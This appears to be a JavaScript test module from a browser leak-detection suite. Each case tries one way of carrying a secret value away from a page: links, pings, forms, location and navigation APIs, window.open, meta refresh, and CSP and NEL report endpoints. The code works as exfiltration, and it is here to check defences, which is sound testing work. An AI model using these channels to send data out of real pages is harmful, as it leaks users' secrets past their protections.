/** What leads away from the page, or opens another one beside it. Most of these end the page in which they are tried. */
const alone = true;
const where = ["page"];
const both = ["page", "frame"];

const clicked = async (h, w, attributes, c) => {
  const a = h.make("a", attributes);
  w.document.body.append(a);
  a.click();
  await h.wait(c.patience);
  return "clicked";
};

const form = async (h, w, c, attributes, how) => {
  const f = h.make("form", attributes);
  f.append(h.make("input", { name: "q", value: c.secret }));
  const button = h.make("button", how === "formaction" ? { formaction: h.to() } : {});
  f.append(button);
  w.document.body.append(f);
  if (how === "submit") f.submit();
  else if (how === "requestSubmit") f.requestSubmit();
  else button.click();
  await h.wait(c.patience);
  return "submitted";
};

const text = (f, ...args) => args.reduce((s, [from, to]) => s.replaceAll(from, to), String(f));
/** Only a function's own text reaches the page, so shared code is written into it. */
const with_ = (helper, run) =>
  new Function("w", "c", "h", `const ${helper.name} = ${text(helper)}; return (${text(run)})(w, c, h);`);
const link = (run) => with_(clicked, run);
const sent = (run) => with_(form, run);

export const byLeaving = [
  { name: "a href, clicked", where, alone, run: link((w, c, h) => clicked(h, w, { href: h.to() }, c)) },
  {
    name: "a target=_blank, clicked",
    where: both,
    alone,
    run: link((w, c, h) => clicked(h, w, { href: h.to(), target: "_blank" }, c)),
  },
  {
    name: "a target=_blank of the own host, secret in the query",
    where,
    alone,
    run: link((w, c, h) => clicked(h, w, { href: h.near, target: "_blank" }, c)),
  },
  {
    name: "a ping",
    where,
    alone,
    run: link((w, c, h) => clicked(h, w, { href: "#x", ping: h.to() }, c)),
  },
  {
    name: "a download of a foreign address",
    where,
    alone,
    run: link((w, c, h) => clicked(h, w, { href: h.to(), download: "x" }, c)),
  },
  {
    name: "a download of the own host, secret in the query",
    where,
    alone,
    run: link((w, c, h) => clicked(h, w, { href: h.near, download: "x" }, c)),
  },
  {
    name: "area href, clicked",
    where,
    alone,
    run: async (w, c, h) => {
      const map = h.make("map", { name: "proof" });
      const area = h.make("area", { href: h.to() });
      map.append(area);
      w.document.body.append(map);
      area.click();
      await h.wait(c.patience);
      return "clicked";
    },
  },
  {
    name: "SVG a, clicked",
    where,
    alone,
    run: async (w, c, h) => {
      const svg = h.svg("svg");
      const a = h.svg("a", { href: h.to() });
      svg.append(a);
      w.document.body.append(svg);
      a.dispatchEvent(new w.MouseEvent("click", { bubbles: true, cancelable: true }));
      await h.wait(c.patience);
      return "clicked";
    },
  },
  {
    name: "form GET, by its button",
    where,
    alone,
    run: sent((w, c, h) => form(h, w, c, { action: h.to() }, "button")),
  },
  {
    name: "form POST, submit()",
    where: both,
    alone,
    run: sent((w, c, h) => form(h, w, c, { action: h.to(), method: "post" }, "submit")),
  },
  {
    name: "form POST, requestSubmit()",
    where,
    alone,
    run: sent((w, c, h) => form(h, w, c, { action: h.to(), method: "post" }, "requestSubmit")),
  },
  {
    name: "form target=_blank",
    where,
    alone,
    run: sent((w, c, h) => form(h, w, c, { action: h.to(), target: "_blank" }, "submit")),
  },
  {
    name: "button formaction",
    where,
    alone,
    run: sent((w, c, h) => form(h, w, c, { action: "#" }, "formaction")),
  },
  {
    name: "form GET to the own host, secret in the query",
    where,
    alone,
    run: sent((w, c, h) => form(h, w, c, { action: `${c.own}${c.id}.html` }, "submit")),
  },
  {
    name: "location.href",
    where: both,
    alone,
    run: async (w, c, h) => {
      w.location.href = h.to();
      await h.wait(c.patience);
      return "set";
    },
  },
  {
    name: "location.assign",
    where,
    alone,
    run: async (w, c, h) => {
      w.location.assign(h.to());
      await h.wait(c.patience);
      return "set";
    },
  },
  {
    name: "location.replace",
    where,
    alone,
    run: async (w, c, h) => {
      w.location.replace(h.to());
      await h.wait(c.patience);
      return "set";
    },
  },
  {
    name: "location.search: the own host, secret in the query",
    where,
    alone,
    run: async (w, c, h) => {
      w.location.search = `?${c.id}=${c.secret}`;
      await h.wait(c.patience);
      return "set";
    },
  },
  {
    name: "location: a path of the own host",
    where,
    alone,
    run: async (w, c, h) => {
      w.location.href = `${c.own}${c.id}/${c.secret}`;
      await h.wait(c.patience);
      return "set";
    },
  },
  {
    name: "location: javascript:",
    where,
    alone,
    run: async (w, c, h) => {
      w.location.href = `javascript:void fetch(${JSON.stringify(h.to())}, { mode: "no-cors" })`;
      await h.wait(c.patience);
      return "set";
    },
  },
  {
    name: "navigation.navigate",
    where,
    alone,
    run: async (w, c, h) => {
      h.need(w.navigation);
      const { committed } = w.navigation.navigate(h.to());
      await Promise.race([committed, h.wait(c.patience)]);
      return "asked";
    },
  },
  {
    name: "history.pushState with the secret, then reload",
    where,
    alone,
    dirty: true,
    run: async (w, c, h) => {
      w.history.pushState(null, "", `${c.own}?${c.id}=${c.secret}`);
      w.location.reload();
      await h.wait(c.patience);
      return "asked";
    },
  },
  {
    name: "an address changed while a navigation is on its way, then reload",
    where,
    alone,
    dirty: true,
    run: async (w, c, h) => {
      h.need(w.NavigateEvent?.prototype.intercept);
      // Otherwise the page's own service worker answers, without a request.
      for (const r of (await w.navigator.serviceWorker?.getRegistrations()) ?? []) await r.unregister();
      const to = `${c.own}?${c.id}=${c.secret}`;
      const change = (e) => e.intercept({ precommitHandler: (going) => going.redirect(to) });
      w.navigation.addEventListener("navigate", change, { once: true });
      await w.navigation.navigate("?lang=fr").committed;
      w.location.reload();
      await h.wait(c.patience);
      return "asked";
    },
  },
  {
    name: "meta refresh",
    where,
    alone,
    dirty: true,
    run: async (w, c, h) => {
      w.document.head.append(h.make("meta", { "http-equiv": "refresh", content: `0;url=${h.to()}` }));
      await h.wait(c.patience);
      return "set";
    },
  },
  {
    name: "window.open",
    where: both,
    alone,
    run: async (w, c, h) => {
      h.need(w.open);
      const other = w.open(h.to());
      await h.wait(c.patience);
      return other ? "open" : "no window";
    },
  },
  {
    name: "window.open about:blank, an image in it",
    where: both,
    alone,
    run: async (w, c, h) => {
      h.need(w.open);
      const other = w.open("about:blank");
      if (!other) return "no window";
      new other.Image().src = h.to(".png");
      await h.wait(c.patience);
      return "open";
    },
  },
  {
    name: "a frame's location",
    where: ["frame"],
    alone,
    run: async (w, c, h) => {
      w.location.replace(h.to());
      await h.wait(c.patience);
      return "set";
    },
  },
  {
    name: "CSP report-uri of a meta element",
    where,
    alone,
    dirty: true,
    cannot: { chromium: "ignored in a meta element", firefox: "ignored in a meta element" },
    run: async (w, _c, h) => {
      const content = `img-src 'none'; report-uri ${h.to()}`;
      w.document.head.append(h.make("meta", { "http-equiv": "Content-Security-Policy", content }));
      return h.settle(h.make("img", { src: h.to(".png") }));
    },
  },
  {
    name: "CSP report-to of a meta element",
    where,
    alone,
    dirty: true,
    cannot: { chromium: "ignored in a meta element", firefox: "ignored in a meta element" },
    run: async (w, _c, h) => {
      const head = w.document.head;
      head.append(h.make("meta", { "http-equiv": "Reporting-Endpoints", content: `proof="${h.to()}"` }));
      const content = "img-src 'none'; report-to proof";
      head.append(h.make("meta", { "http-equiv": "Content-Security-Policy", content }));
      return h.settle(h.make("img", { src: h.to(".png") }));
    },
  },
  {
    name: "NEL of a meta element",
    where,
    alone,
    dirty: true,
    cannot: { chromium: "ignored in a meta element", firefox: "not in this browser" },
    run: async (w, c, h) => {
      const group = JSON.stringify({ group: "x", max_age: 99, endpoints: [{ url: h.to() }] });
      w.document.head.append(
        h.make("meta", { "http-equiv": "Report-To", content: group }),
        h.make("meta", { "http-equiv": "NEL", content: JSON.stringify({ report_to: "x", max_age: 99 }) }),
      );
      return h.settle(h.make("img", { src: `${c.own}nothing-here.png` }));
    },
  },
];
